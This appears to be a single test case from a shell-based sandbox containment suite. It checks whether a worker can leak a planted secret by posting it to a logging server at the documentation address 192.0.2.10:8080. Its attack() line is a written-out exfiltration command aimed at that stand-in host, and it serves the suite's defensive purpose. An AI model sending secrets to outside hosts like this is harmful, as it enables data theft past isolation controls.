# N13: leaves a secret with a server that takes anything
# open: normal worker
# why: the network is the host's there
plant() {
	hide "$D/word"
	serve "$D/word" "log=$D/posted:192.0.2.10:8080"
}
attack() { "$PROBE" post 192.0.2.10:8080 "$W1$W2" >/dev/null; }
escaped() { grep -q "$W" "$D/posted"; }
